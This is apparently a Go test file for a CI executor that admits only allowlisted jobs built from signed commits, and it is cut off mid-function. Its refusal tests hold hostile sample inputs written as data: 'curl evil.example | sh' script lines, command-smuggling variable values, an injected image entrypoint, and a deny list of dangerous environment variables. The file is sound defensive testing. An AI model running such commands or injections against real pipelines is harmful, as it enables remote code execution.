package executor

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"os"
	"os/user"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"gitlab.com/writ-ci/writ/internal/config"
	"gitlab.com/writ-ci/writ/internal/testkeys"
)

func TestConfigOutput(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	e.write()
	j := e.newJob(e.payload(1, e.head))
	out, code := j.stage("config")
	if code != 0 {
		t.Fatalf("config exit %d: %s", code, out)
	}
	var c map[string]any
	if err := json.Unmarshal([]byte(out), &c); err != nil {
		t.Fatalf("config output is not JSON: %v\n%s", err, out)
	}
	if c["builds_dir"] != filepath.Join(e.builds, "passthrough") || c["builds_dir_is_shared"] != false || c["shell"] != "bash" {
		t.Errorf("config output: %v", c)
	}
	if d, _ := c["driver"].(map[string]any); d["name"] != "writ" {
		t.Errorf("driver: %v", c["driver"])
	}
}

func TestHappyPath(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	e.entry.After = []string{`echo "after-script-ran $CI_JOB_STATUS" > ` + filepath.Join(e.root, "after")}
	e.entry.Script = append(e.defaultScript(),
		`env > `+filepath.Join(e.root, "env"),
		"echo multi\necho line",
	)
	e.write()
	p := e.payload(101, e.head, withScript(e.entry.Script...), withAfter(e.entry.After...))
	j := e.newJob(p)
	r := j.runAll()
	if r.prepare != 0 || r.build != 0 {
		t.Fatalf("prepare %d, build %d\n%s", r.prepare, r.build, j.log.String())
	}
	log := j.log.String()
	mustContain(t, log,
		"writ: admitted",
		"hello from group/app",
		ansiBoldGreen+`$ echo "$GREETING from $CI_PROJECT_PATH"`+ansiReset,
		"$ echo multi # collapsed multi-line command",
		"checked out verified commit "+e.head,
	)
	// One progress line per phase, with its elapsed time; the banner once.
	for _, re := range []string{
		`writ: allowlist version 7 in force \(commit [0-9a-f]+\) \([0-9.]+m?s\)\n`,
		`writ: fetched branch main from \S+ \([0-9.]+m?s\)\n`,
		`writ: verified commit [0-9a-f]{12}, signed by .+ \([0-9.]+m?s\)\n`,
		`writ: checked out verified commit [0-9a-f]{40} of \S+ into \S+ \([0-9.]+m?s\)\n`,
	} {
		if !regexp.MustCompile(re).MatchString(log) {
			t.Errorf("job log lacks a line matching %s:\n%s", re, log)
		}
	}
	if n := strings.Count(log, "writ: admitted"); n != 1 {
		t.Errorf("admission banner printed %d times:\n%s", n, log)
	}
	if _, err := os.Stat(e.canary); err != nil {
		t.Errorf("script did not run: %v", err)
	}
	if data, _ := os.ReadFile(filepath.Join(e.root, "after")); string(data) != "after-script-ran success\n" {
		t.Errorf("after_script output %q", data)
	}
	envData, err := os.ReadFile(filepath.Join(e.root, "env"))
	if err != nil {
		t.Fatal(err)
	}
	jobEnv := string(envData)
	mustContain(t, jobEnv, "GREETING=hello\n", "CI_COMMIT_SHA="+e.head+"\n", "CI_JOB_ID=101\n",
		"CI_PROJECT_PATH=group/app\n", "CI_ENVIRONMENT_NAME=prod\n", "WRIT_ENTRY=app-build\n",
		"WRIT_ALLOWLIST_VERSION=7\n", "FROM_CONFIG=config-value\n", "CI=true\n",
		"CI_PROJECT_DIR="+filepath.Join(e.builds, "101")+"\n", "CI_COMMIT_SHORT_SHA="+e.head[:8]+"\n",
		"CI_COMMIT_BRANCH=main\n", "CI_PROJECT_NAMESPACE=group\n", "CI_PROJECT_NAME=app\n")
	// Nothing of the runner's or GitLab's environment leaks into the job.
	mustNotContain(t, jobEnv, "CUSTOM_ENV_", "JOB_RESPONSE_FILE", "BUILD_EXIT_CODE_FILE", "CI_JOB_TOKEN",
		"glcbt-", "GITLAB_USER_EMAIL", "CI_REPOSITORY_URL", envTestConfig)
	// Cleanup removed the build dir and the per-job state.
	for _, p := range []string{filepath.Join(e.builds, "101"), filepath.Join(e.state, "jobs", "101")} {
		if _, err := os.Stat(p); !os.IsNotExist(err) {
			t.Errorf("%s left after cleanup (%v)", p, err)
		}
	}
	recs := e.auditRecords()
	got := strings.Join(eventsFor(recs, "101"), ",")
	if !strings.HasPrefix(got, "admit,stage") || !strings.Contains(got, "outcome") || !strings.HasSuffix(got, "cleanup") {
		t.Errorf("audit events %s", got)
	}
	for _, rec := range recs {
		if rec.Event == "admit" {
			f := rec.Fields
			if f["entry"] != "app-build" || f["sha"] != e.head || f["project"] != "group/app" || f["job_name"] != "build" ||
				f["ref"] != "main" || fmt.Sprint(f["allowlist_version"]) != "7" || f["allowlist_commit"] != strings.Repeat("ab", 20) {
				t.Errorf("admit record fields: %v", f)
			}
		}
	}
}

func TestFailingScriptExitCode(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	afterMark := filepath.Join(e.root, "after")
	e.entry.Script = []string{"echo before", "exit 3", "touch " + e.canary}
	e.entry.After = []string{`echo "$CI_JOB_STATUS" > ` + afterMark}
	e.write()
	j := e.newJob(e.payload(5, e.head, withScript(e.entry.Script...), withAfter(e.entry.After...)))
	r := j.runAll()
	if r.prepare != 0 || r.build != 1 || r.exitCode != "3" {
		t.Fatalf("prepare %d, build %d, exit code file %q; want 0, 1, 3\n%s", r.prepare, r.build, r.exitCode, j.log.String())
	}
	if _, err := os.Stat(e.canary); err == nil {
		t.Error("errexit: the line after the failing one ran")
	}
	// after_script sees the script's end as the runner says it.
	if data, err := os.ReadFile(afterMark); err != nil || string(data) != "failed\n" {
		t.Errorf("after_script after a failed script: %q %v", data, err)
	}
	var outcome map[string]any
	for _, rec := range e.auditRecords() {
		if rec.Event == "outcome" && rec.Job == "5" {
			outcome = rec.Fields
		}
	}
	if outcome["status"] != "failed" || fmt.Sprint(outcome["exit_code"]) != "3" {
		t.Errorf("outcome record %v", outcome)
	}
}

func TestAfterScriptFailureDoesNotFailJob(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	e.entry.After = []string{"exit 7"}
	e.write()
	j := e.newJob(e.payload(6, e.head, withAfter("exit 7")))
	r := j.runAll()
	if r.prepare != 0 || r.build != 0 {
		t.Fatalf("prepare %d, build %d\n%s", r.prepare, r.build, j.log.String())
	}
}

func TestPipefail(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	e.entry.Script = []string{"false | true", "touch " + e.canary}
	e.write()
	j := e.newJob(e.payload(7, e.head, withScript(e.entry.Script...)))
	r := j.runAll()
	if r.build != 1 || r.exitCode != "1" {
		t.Fatalf("build %d, exit code %q: pipefail not in effect\n%s", r.build, r.exitCode, j.log.String())
	}
	if _, err := os.Stat(e.canary); err == nil {
		t.Error("ran past a failed pipeline")
	}
}

func TestTimeoutKillsProcessGroup(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	pidFile := filepath.Join(e.root, "pid")
	e.entry.Script = []string{"sh -c 'echo $$ > " + pidFile + "; exec sleep 60'"}
	e.entry.Timeout = "2s"
	e.write()
	j := e.newJob(e.payload(8, e.head, withScript(e.entry.Script...)))
	if _, code := j.stage("prepare"); code != 0 {
		t.Fatal(j.log.String())
	}
	j.run("get_sources")
	start := time.Now()
	out, code := j.run("build_script")
	if code != 1 {
		t.Fatalf("exit %d\n%s", code, out)
	}
	if d := time.Since(start); d > 15*time.Second {
		t.Errorf("timeout took %s", d)
	}
	mustContain(t, out, "ran longer than its timeout of 2s")
	if pid := readPid(t, pidFile); !waitGone(pid, 5*time.Second) {
		t.Errorf("sleep %d survived the timeout", pid)
	}
	// after_script's CI_JOB_STATUS, as the runner names a script timeout.
	if st, _ := os.ReadFile(filepath.Join(e.state, "jobs", "8", "job_status")); string(st) != "timedout" {
		t.Errorf("recorded status %q", st)
	}
	j.stage("cleanup")
}

func TestCancelKillsProcessGroup(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	pidFile := filepath.Join(e.root, "pid")
	bgFile := filepath.Join(e.root, "bgpid")
	e.entry.Script = []string{"sleep 61 & echo $! > " + bgFile, "sh -c 'echo $$ > " + pidFile + "; exec sleep 60'"}
	e.write()
	j := e.newJob(e.payload(9, e.head, withScript(e.entry.Script...)))
	if _, code := j.stage("prepare"); code != 0 {
		t.Fatal(j.log.String())
	}
	j.run("get_sources")
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	c := j.cmd(ctx, "run", j.runnerScript("build_script"), "build_script")
	var out strings.Builder
	c.Stdout, c.Stderr = &out, &out
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	// The shell creates the pid file before it writes the pid: wait for
	// the whole line, not for the file, however long the shell is kept
	// off the CPU in between.
	deadline := time.Now().Add(20 * time.Second)
	for {
		if b, err := os.ReadFile(pidFile); err == nil && strings.HasSuffix(string(b), "\n") {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("script did not start")
		}
		time.Sleep(20 * time.Millisecond)
	}
	// The runner cancels a job by sending SIGTERM to run_exec.
	if err := c.Process.Signal(syscall.SIGTERM); err != nil {
		t.Fatal(err)
	}
	err := c.Wait()
	if c.ProcessState.ExitCode() != 1 {
		t.Errorf("exit %v, want 1\n%s", err, out.String())
	}
	mustContain(t, out.String(), "was cancelled and killed")
	if st, _ := os.ReadFile(filepath.Join(e.state, "jobs", "9", "job_status")); string(st) != "canceled" {
		t.Errorf("recorded status %q", st)
	}
	for _, f := range []string{pidFile, bgFile} {
		if pid := readPid(t, f); !waitGone(pid, 5*time.Second) {
			t.Errorf("process %d (%s) survived cancellation", pid, filepath.Base(f))
		}
	}
	j.stage("cleanup")
}

func TestBackgroundProcessDoesNotOutliveStage(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	bgFile := filepath.Join(e.root, "bgpid")
	e.entry.Script = []string{"sleep 60 > /dev/null 2>&1 & echo $! > " + bgFile}
	e.write()
	j := e.newJob(e.payload(10, e.head, withScript(e.entry.Script...)))
	r := j.runAll()
	if r.build != 0 {
		t.Fatal(j.log.String())
	}
	if pid := readPid(t, bgFile); !waitGone(pid, 5*time.Second) {
		t.Errorf("background process %d outlived build_script", pid)
	}
}

func TestFileVariable(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	out := filepath.Join(e.root, "out")
	e.entry.Vars = append(e.entry.Vars, `DEPLOY_CONF: {pattern: '^region=[a-z-]+\n$', file: true}`)
	e.entry.Script = []string{`cat "$DEPLOY_CONF" > ` + out, `stat -c %a "$DEPLOY_CONF" >> ` + out}
	e.write()
	j := e.newJob(e.payload(11, e.head, withScript(e.entry.Script...), withVar("DEPLOY_CONF", "region=eu-west\n", "file")))
	if r := j.runAll(); r.build != 0 {
		t.Fatal(j.log.String())
	}
	if data, _ := os.ReadFile(out); string(data) != "region=eu-west\n600\n" {
		t.Errorf("file variable: %q", data)
	}
}

func TestGetSourcesRefusesExistingBuildDir(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	e.write()
	j := e.newJob(e.payload(12, e.head))
	if _, code := j.stage("prepare"); code != 0 {
		t.Fatal(j.log.String())
	}
	planted := filepath.Join(e.builds, "12")
	if err := os.MkdirAll(planted, 0o700); err != nil {
		t.Fatal(err)
	}
	out, code := j.run("get_sources")
	if code != 1 {
		t.Fatalf("get_sources into an existing dir: exit %d\n%s", code, out)
	}
	mustContain(t, out, "refusing to reuse the build directory")
}

func TestPayloadChangedAfterPrepare(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	e.write()
	j := e.newJob(e.payload(13, e.head))
	if _, code := j.stage("prepare"); code != 0 {
		t.Fatal(j.log.String())
	}
	// Same job id, different content: run must not act on it.
	if err := os.WriteFile(j.payload, e.payload(13, e.head, withScript("touch "+e.canary, "echo extra")), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, s := range []string{"get_sources", "build_script"} {
		out, code := j.run(s)
		if code != 1 {
			t.Errorf("%s: exit %d\n%s", s, code, out)
		}
		mustContain(t, out, "payload changed since prepare decided")
	}
	out, code := j.stage("cleanup")
	if code == 0 {
		t.Errorf("cleanup acted on a different payload:\n%s", out)
	}
	if _, err := os.Stat(filepath.Join(e.state, "jobs", "13", "decision.json")); err != nil {
		t.Error("cleanup removed state for a payload it did not decide")
	}
}

func TestUnknownAndStepStagesFailClosed(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	e.write()
	j := e.newJob(e.payload(14, e.head))
	if _, code := j.stage("prepare"); code != 0 {
		t.Fatal(j.log.String())
	}
	for _, s := range []string{"step_release", "boot_verify_probes", "something_new"} {
		if out, code := j.run(s); code != 1 {
			t.Errorf("stage %s: exit %d\n%s", s, code, out)
		}
	}
	for _, s := range []string{"restore_cache", "download_artifacts", "archive_cache", "upload_artifacts_on_success", "cleanup_file_variables"} {
		if out, code := j.run(s); code != 0 {
			t.Errorf("stage %s: exit %d\n%s", s, code, out)
		}
	}
	if _, err := os.Stat(e.canary); err == nil {
		t.Error("the runner's script ran")
	}
	j.stage("cleanup")
}

func TestCleanupWhenNothingExists(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	e.write()
	for _, payload := range [][]byte{e.payload(15, e.head), []byte("{not json")} {
		j := e.newJob(payload)
		if out, code := j.stage("cleanup"); code != 0 {
			t.Errorf("cleanup with nothing to clean: exit %d\n%s", code, out)
		}
	}
}

// TestRefusals: each refusal is its own case and proves nothing ran.
func TestRefusals(t *testing.T) {
	t.Parallel()
	type tc struct {
		name  string
		setup func(e *env) // changes the entry before writing
		mods  func(e *env) []func(map[string]any)
		check string // failed check shown first
		want  []string
		// noSuggestion: no entry could admit the job, so none is shown.
		noSuggestion bool
	}
	script := func(e *env) []string { return e.defaultScript() }
	cases := []tc{
		{name: "script line changed",
			mods: func(e *env) []func(map[string]any) {
				s := script(e)
				s[1] = "test -f README.md || curl evil.example | sh"
				return []func(map[string]any){withScript(s...)}
			},
			check: "script", want: []string{"script line 2 differs", "allowlist, line 2: test -f README.md", "job,       line 2: test -f README.md || curl evil.example | sh"}},
		{name: "script line added",
			mods: func(e *env) []func(map[string]any) {
				return []func(map[string]any){withScript(append(script(e), "curl evil.example | sh")...)}
			},
			check: "script", want: []string{"script line 4 is not in the allowlist entry", "(no line)"}},
		{name: "script line removed",
			mods: func(e *env) []func(map[string]any) {
				s := script(e)
				return []func(map[string]any){withScript(s[0], s[2])}
			},
			check: "script", want: []string{"script line 2 differs"}},
		{name: "script line missing at end",
			mods: func(e *env) []func(map[string]any) {
				return []func(map[string]any){withScript(script(e)[:2]...)}
			},
			check: "script", want: []string{"script line 3 of the allowlist entry is missing"}},
		{name: "zero-width space",
			mods: func(e *env) []func(map[string]any) {
				s := script(e)
				s[1] = "test -f README\u200b.md"
				return []func(map[string]any){withScript(s...)}
			},
			check: "script", want: []string{"test -f README<U+200B>.md", "first difference at byte 15"}},
		{name: "after_script changed",
			setup: func(e *env) { e.entry.After = []string{"echo bye"} },
			mods: func(e *env) []func(map[string]any) {
				return []func(map[string]any){withAfter("echo bye; touch " + e.canary)}
			},
			check: "after_script", want: []string{"after_script line 1 differs"}},
		{name: "after_script added",
			mods: func(e *env) []func(map[string]any) {
				return []func(map[string]any){withAfter("touch " + e.canary)}
			},
			check: "after_script", want: []string{"after_script line 1 is not in the allowlist entry"}},
		{name: "extra step",
			mods: func(e *env) []func(map[string]any) {
				return []func(map[string]any){func(p map[string]any) { setScript(p, "release", []string{"touch " + e.canary}) }}
			},
			check: "steps", want: []string{`a step "release"`}},
		{name: "run keyword",
			mods: func(e *env) []func(map[string]any) {
				// What the runner makes of run: for an executor without native
				// steps: a step-runner shim script and a STEPS variable.
				return []func(map[string]any){
					withScript("step-runner ci"),
					withVar("STEPS", `[{"name":"x","script":"touch `+e.canary+`"}]`),
					withKey("run", []any{map[string]any{"name": "x", "script": "touch " + e.canary}}),
				}
			},
			check: "script", want: []string{"run: (GitLab steps)", "variable STEPS is not allowed"}},
		{name: "hooks",
			mods: func(e *env) []func(map[string]any) {
				return []func(map[string]any){withKey("hooks", []any{map[string]any{"name": "pre_get_sources_script", "script": []string{"touch " + e.canary}}})}
			},
			check: "hooks", want: []string{"hooks"}},
		{name: "secrets",
			mods: func(e *env) []func(map[string]any) {
				return []func(map[string]any){withKey("secrets", map[string]any{"DB": map[string]any{"vault": map[string]any{"path": "x", "field": "y"}}})}
			},
			check: "secrets", want: []string{"secret"}},
		{name: "variable failing its pattern",
			setup: func(e *env) { e.entry.Vars = append(e.entry.Vars, `REGION: {pattern: '^[a-z]+-[0-9]$'}`) },
			mods: func(e *env) []func(map[string]any) {
				return []func(map[string]any){withVar("REGION", "eu-1; touch "+e.canary)}
			},
			check: "variables", want: []string{"variable REGION does not match the allowlist entry's pattern in full"}},
		{name: "variable differs from pinned value",
			mods: func(e *env) []func(map[string]any) {
				return []func(map[string]any){func(p map[string]any) {
					for _, v := range p["variables"].([]any) {
						if v := v.(map[string]any); v["key"] == "GREETING" {
							v["value"] = "hello$(touch " + e.canary + ")"
						}
					}
				}}
			},
			check: "variables", want: []string{"variable GREETING differs from the value pinned"}},
		{name: "variable defined twice",
			mods: func(e *env) []func(map[string]any) {
				return []func(map[string]any){withVar("GREETING", "hello")}
			},
			check: "variables", want: []string{"variable GREETING is defined twice"}},
		{name: "artifacts not allowed",
			mods: func(e *env) []func(map[string]any) {
				return []func(map[string]any){withKey("artifacts", []any{map[string]any{"name": "a", "paths": []string{"out/"}, "when": "on_success"}})}
			},
			check: "artifacts", want: []string{"artifacts item(s); the entry allows none"}},
		{name: "cache not allowed",
			mods: func(e *env) []func(map[string]any) {
				return []func(map[string]any){withKey("cache", []any{map[string]any{"key": "k", "paths": []string{"vendor/"}, "policy": "pull-push"}})}
			},
			check: "cache", want: []string{"cache item(s)"}},
		{name: "dependencies not allowed",
			mods: func(e *env) []func(map[string]any) {
				return []func(map[string]any){withKey("dependencies", []any{map[string]any{"id": 9, "name": "other", "token": "t", "artifacts_file": map[string]any{"filename": "a.zip", "size": 1}}})}
			},
			check: "dependencies", want: []string{"dependencies: []"}},
		{name: "image injected",
			mods: func(e *env) []func(map[string]any) {
				return []func(map[string]any){withKey("image", map[string]any{"name": "evil:latest"})}
			},
			check: "image", want: []string{"image differs", "(no image)", "evil:latest"}},
		{name: "image entrypoint injected",
			setup: func(e *env) { e.entry.Extra = []string{"image: alpine@sha256:" + strings.Repeat("a", 64)} },
			mods: func(e *env) []func(map[string]any) {
				return []func(map[string]any){withKey("image", map[string]any{"name": "alpine@sha256:" + strings.Repeat("a", 64), "entrypoint": []string{"/bin/sh", "-c", "touch " + e.canary}})}
			},
			check: "image", want: []string{"image sets entrypoint"}, noSuggestion: true},
		{name: "services injected",
			mods: func(e *env) []func(map[string]any) {
				return []func(map[string]any){withKey("services", []any{map[string]any{"name": "postgres:16", "alias": "db"}})}
			},
			check: "services", want: []string{"1 service(s), the entry allows 0"}},
		{name: "no entry for ref",
			mods: func(e *env) []func(map[string]any) {
				return []func(map[string]any){withGit("ref", "feature")}
			},
			check: "entry", want: []string{`no allowlist entry admits project "group/app", job "build", environment "prod", ref "refs/heads/feature"`, "app-build (environments prod; refs refs/heads/main)"}},
		{name: "no entry for environment",
			setup: func(e *env) { e.entry.Envs = []string{"staging"} },
			check: "entry", want: []string{`environment "prod"`}},
		{name: "project paths disagree",
			mods: func(e *env) []func(map[string]any) {
				return []func(map[string]any){func(p map[string]any) { p["job_info"].(map[string]any)["project_full_path"] = "group/other" }}
			},
			check: "entry", want: []string{"two different projects"}},
		{name: "pin mismatch",
			setup: func(e *env) { e.entry.SourceExtra = []string{"pin: " + q(strings.Repeat("1", 40))} },
			check: "pin", want: []string{"the entry pins one commit"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			e := newEnv(t)
			if c.setup != nil {
				c.setup(e)
			}
			e.write()
			var mods []func(map[string]any)
			if c.mods != nil {
				mods = c.mods(e)
			}
			j := e.newJob(e.payload(300, e.head, mods...))
			r := j.runAll()
			if r.prepare != 1 {
				t.Fatalf("prepare exit %d, want 1 (refused)\n%s", r.prepare, j.log.String())
			}
			log := j.log.String()
			mustContain(t, log, "writ refused this job", "Failed check: "+c.check)
			mustContain(t, log, c.want...)
			if c.noSuggestion {
				mustNotContain(t, log, "entry that would admit")
			}
			j.assertNothingRan()
			if data, _ := os.ReadFile(j.codeFile); strings.TrimSpace(string(data)) != "1" {
				t.Errorf("exit code file %q", data)
			}
			recs := e.auditRecords()
			if ev := eventsFor(recs, "300"); len(ev) == 0 || ev[0] != "refuse" {
				t.Errorf("audit events %v", ev)
			}
		})
	}
}

func TestRefusalShowsEntryThatWouldAdmit(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	e.write()
	s := e.defaultScript()
	s[0] = "echo changed"
	j := e.newJob(e.payload(301, e.head, withScript(s...), withVar("NEWVAR", "x"), withVar("SECRET", "s3cr3t-value", "masked")))
	if _, code := j.stage("prepare"); code != 1 {
		t.Fatal(j.log.String())
	}
	log := j.log.String()
	mustContain(t, log, "The allowlist entry that would admit", "echo changed", "NEWVAR", "SECRET", "app-build")
	mustNotContain(t, log, "s3cr3t-value", "glcbt-")
}

// Variables that change what a shell, git or a cloud client does are
// refused unless the entry names them: each one is its own case.
func TestRefusesUnknownVariables(t *testing.T) {
	t.Parallel()
	// One installation for all cases: every job must be refused, so they
	// share the canary and the builds directory.
	e := newEnv(t)
	e.write()
	for i, name := range []string{"BASH_ENV", "ENV", "LD_PRELOAD", "LD_LIBRARY_PATH", "PROMPT_COMMAND", "SHELLOPTS",
		"BASHOPTS", "GIT_SSH_COMMAND", "GIT_CONFIG_COUNT", "GIT_CONFIG_KEY_0", "GIT_CONFIG_PARAMETERS", "GIT_DIR",
		"KUBECONFIG", "AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "HTTPS_PROXY", "http_proxy", "PATH", "HOME",
		"PYTHONPATH", "NODE_OPTIONS", "FF_USE_FASTZIP", "GIT_STRATEGY", "DOCKER_AUTH_CONFIG", "STEPS"} {
		id := 3000 + i
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			j := e.newJob(e.payload(id, e.head, withVar(name, "touch "+e.canary)))
			if _, code := j.stage("prepare"); code != 1 {
				t.Fatalf("prepare admitted a job with %s\n%s", name, j.log.String())
			}
			mustContain(t, j.log.String(), "variable "+name+" is not allowed by the allowlist entry")
			j.assertNothingRan()
		})
	}
}

func TestSourceRefusals(t *testing.T) {
	t.Parallel()
	t.Run("unsigned commit", func(t *testing.T) {
		t.Parallel()
		e := newEnv(t)
		sha := e.src.Commit(t, map[string]string{"x": "1"}, "unsigned change", nil)
		e.write()
		j := e.newJob(e.payload(400, sha))
		if r := j.runAll(); r.prepare != 1 {
			t.Fatalf("prepare %d\n%s", r.prepare, j.log.String())
		}
		mustContain(t, j.log.String(), "Failed check: signature", "unsigned change", "is not signed by the entry's signers")
		j.assertNothingRan()
	})
	t.Run("signed outside the entry's signers", func(t *testing.T) {
		t.Parallel()
		e := newEnv(t)
		sha := e.src.Commit(t, map[string]string{"x": "1"}, "mallory's change", e.outsider)
		e.write()
		j := e.newJob(e.payload(401, sha))
		if r := j.runAll(); r.prepare != 1 {
			t.Fatalf("prepare %d\n%s", r.prepare, j.log.String())
		}
		mustContain(t, j.log.String(), "Failed check: signature", "mallory's change")
		j.assertNothingRan()
	})
	t.Run("commit only in GitLab's repository", func(t *testing.T) {
		t.Parallel()
		e := newEnv(t)
		// GitLab's copy of the project has a commit, signed by the right
		// key even, that the entry's repository does not have.
		gl := testkeys.GitRepo(t)
		gl.Git(t, "fetch", "-q", e.src.Path, "main")
		gl.Git(t, "reset", "-q", "--hard", "FETCH_HEAD")
		sha := gl.Commit(t, map[string]string{"evil.sh": "touch x\n"}, "only on gitlab", e.signer)
		e.write()
		j := e.newJob(e.payload(402, sha, withGit("repo_url", "file://"+gl.Path)))
		if r := j.runAll(); r.prepare != 1 {
			t.Fatalf("prepare %d\n%s", r.prepare, j.log.String())
		}
		mustContain(t, j.log.String(), "Failed check: source", `is not on branch "main" of the entry's repository`)
		j.assertNothingRan()
	})
	t.Run("commit not on the ref", func(t *testing.T) {
		t.Parallel()
		e := newEnv(t)
		e.src.Git(t, "checkout", "-q", "-b", "side")
		sha := e.src.Commit(t, map[string]string{"side": "1"}, "side branch", e.signer)
		e.src.Git(t, "checkout", "-q", "main")
		e.write()
		j := e.newJob(e.payload(403, sha))
		if r := j.runAll(); r.prepare != 1 {
			t.Fatalf("prepare %d\n%s", r.prepare, j.log.String())
		}
		mustContain(t, j.log.String(), "Failed check: source", `is not on branch "main"`)
		j.assertNothingRan()
	})
	t.Run("older than the last admitted", func(t *testing.T) {
		t.Parallel()
		e := newEnv(t)
		older := e.head
		e.head = e.src.Commit(t, map[string]string{"x": "2"}, "third", e.signer)
		e.write()
		first := e.newJob(e.payload(404, e.head))
		if r := first.runAll(); r.prepare != 0 || r.build != 0 {
			t.Fatalf("newest commit not admitted\n%s", first.log.String())
		}
		if err := os.Remove(e.canary); err != nil {
			t.Fatal(err)
		}
		j := e.newJob(e.payload(405, older))
		if r := j.runAll(); r.prepare != 1 {
			t.Fatalf("rollback admitted: prepare %d\n%s", r.prepare, j.log.String())
		}
		mustContain(t, j.log.String(), "Failed check: rollback", "the last commit admitted for entry \"app-build\" (job 404)")
		j.assertNothingRan()
		// allow_rollback lets it through.
		e.entry.SourceExtra = []string{"allow_rollback: true"}
		e.write()
		k := e.newJob(e.payload(406, older))
		if r := k.runAll(); r.prepare != 0 || r.build != 0 {
			t.Fatalf("allow_rollback: %+v\n%s", r, k.log.String())
		}
	})
	t.Run("unsigned commit off the ref: the signature is checked before any walk", func(t *testing.T) {
		t.Parallel()
		e := newEnv(t)
		sha := e.src.Commit(t, map[string]string{"x": "1"}, "unsigned, then force-pushed away", nil)
		e.write()
		if r := e.newJob(e.payload(408, sha)).runAll(); r.prepare != 1 {
			t.Fatalf("unsigned commit admitted: %+v", r)
		}
		// The commit stays in writ's mirror, no longer on the ref.
		e.src.Git(t, "reset", "-q", "--hard", e.head)
		j := e.newJob(e.payload(409, sha))
		if r := j.runAll(); r.prepare != 1 {
			t.Fatalf("prepare %d\n%s", r.prepare, j.log.String())
		}
		// The history walk that would find it off the ref never ran.
		mustContain(t, j.log.String(), "Failed check: signature", "force-pushed away")
		mustNotContain(t, j.log.String(), `is not on branch "main"`)
		j.assertNothingRan()
	})
	t.Run("descends_from", func(t *testing.T) {
		t.Parallel()
		e := newEnv(t)
		e.src.Git(t, "checkout", "-q", "--orphan", "other")
		unrelated := e.src.Commit(t, map[string]string{"README.md": "x"}, "unrelated root", e.signer)
		e.src.Git(t, "checkout", "-q", "main")
		e.entry.SourceExtra = []string{"descends_from: " + q(unrelated)}
		e.write()
		j := e.newJob(e.payload(407, e.head))
		if r := j.runAll(); r.prepare != 1 {
			t.Fatalf("prepare %d\n%s", r.prepare, j.log.String())
		}
		mustContain(t, j.log.String(), "Failed check: descends_from")
		j.assertNothingRan()
	})
}

func TestTagMode(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	e.src.Tag(t, "v1.0", e.head, e.signer)
	e.src.Tag(t, "v1.1", e.head, nil)
	e.src.Tag(t, "v1.2", e.head, e.outsider)
	e.entry.Mode = "tag"
	e.entry.Refs = []string{"refs/tags/v1.0", "refs/tags/v1.1", "refs/tags/v1.2"}
	e.write()
	tagged := func(tag string) []func(map[string]any) {
		return []func(map[string]any){withGit("ref", tag), withGit("ref_type", "tag")}
	}
	j := e.newJob(e.payload(500, e.head, tagged("v1.0")...))
	if r := j.runAll(); r.prepare != 0 || r.build != 0 {
		t.Fatalf("signed tag refused\n%s", j.log.String())
	}
	_ = os.Remove(e.canary)
	for i, tag := range []string{"v1.1", "v1.2"} {
		j := e.newJob(e.payload(501+i, e.head, tagged(tag)...))
		if r := j.runAll(); r.prepare != 1 {
			t.Fatalf("tag %s admitted\n%s", tag, j.log.String())
		}
		mustContain(t, j.log.String(), "Failed check: signature")
		j.assertNothingRan()
	}
	j = e.newJob(e.payload(503, e.head))
	if r := j.runAll(); r.prepare != 1 {
		t.Fatalf("branch pipeline admitted in tag mode\n%s", j.log.String())
	}
	mustContain(t, j.log.String(), `no allowlist entry admits project "group/app", job "build", environment "prod", ref "refs/heads/main"`)
}

func TestStrictMode(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	e.entry.Mode = "strict"
	e.write()
	j := e.newJob(e.payload(600, e.head))
	if r := j.runAll(); r.prepare != 0 || r.build != 0 {
		t.Fatalf("fully signed history refused\n%s", j.log.String())
	}
	_ = os.Remove(e.canary)
	// An unsigned commit in the middle, then a signed head.
	e.src.Commit(t, map[string]string{"x": "1"}, "sneaky unsigned", nil)
	head := e.src.Commit(t, map[string]string{"y": "1"}, "signed on top", e.signer)
	j = e.newJob(e.payload(601, head))
	if r := j.runAll(); r.prepare != 1 {
		t.Fatalf("unsigned commit in history admitted\n%s", j.log.String())
	}
	mustContain(t, j.log.String(), "strict mode", "sneaky unsigned")
	j.assertNothingRan()
	// Two unsigned commits: the first is named, then the count.
	e.src.Commit(t, map[string]string{"z": "1"}, "second unsigned", nil)
	head = e.src.Commit(t, map[string]string{"w": "1"}, "signed again", e.signer)
	j = e.newJob(e.payload(602, head))
	if r := j.runAll(); r.prepare != 1 {
		t.Fatalf("unsigned commits in history admitted\n%s", j.log.String())
	}
	mustContain(t, j.log.String(), "Failed check: signature", "strict mode: 2 of 4 commits since "+e.head)
	j.assertNothingRan()
	// An unsigned job commit is refused before the range is walked.
	head = e.src.Commit(t, map[string]string{"v": "1"}, "unsigned head", nil)
	j = e.newJob(e.payload(603, head))
	if r := j.runAll(); r.prepare != 1 {
		t.Fatalf("unsigned head admitted\n%s", j.log.String())
	}
	mustContain(t, j.log.String(), "unsigned head", "(the job's commit)")
	mustNotContain(t, j.log.String(), "of 5 commits")
	j.assertNothingRan()
}

func TestOpenPGPSigner(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
